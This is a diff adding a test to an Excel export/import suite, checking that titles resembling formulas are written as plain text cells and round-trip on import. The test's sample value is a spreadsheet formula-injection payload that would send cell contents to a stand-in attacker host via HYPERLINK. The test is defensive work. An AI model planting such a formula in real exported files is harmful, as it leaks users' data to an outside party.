@@ -794,3 +794,33 @@ def test_a_file_that_is_not_a_workbook_gives_an_error_not_an_exception(program, 
 
 def test_a_path_that_cannot_be_opened_gives_an_error(program, tmp_path):
     assert rejected(program, tmp_path / "missing.xlsx") == [(None, "", "The file could not be opened.")]
+
+
+def test_text_that_looks_like_a_formula_stays_text_and_round_trips(reference):
+    """A title like "=HYPERLINK(...)" must not become a live formula in anyone's Excel."""
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    from planning.excel import export_action_plan, import_action_plan
+    from planning.finance_excel import export_financial_model
+    from planning.models import Activity, Priority
+    from planning.sample import build_program
+    from tests.factories import MunicipalityFactory
+
+    program = build_program(municipality=MunicipalityFactory(), activities=2)
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    Activity.objects.filter(objective__goal__priority__program=program).update(title=hostile)
+    Priority.objects.filter(program=program).update(title=hostile)
+    book = load_workbook(BytesIO(export_action_plan(program)))
+    cells = [c for row in book.worksheets[0].iter_rows() for c in row if c.value == hostile]
+    assert cells and all(c.data_type == "s" for c in cells)
+    finance = load_workbook(BytesIO(export_financial_model(program)))
+    cells = [
+        c for sheet in finance.worksheets for row in sheet.iter_rows() for c in row if c.value == hostile
+    ]
+    assert cells and all(c.data_type == "s" for c in cells)
+    assert import_action_plan(program, export_action_plan(program)).ok
+    assert set(
+        Activity.objects.filter(objective__goal__priority__program=program).values_list("title", flat=True)
+    ) == {hostile}
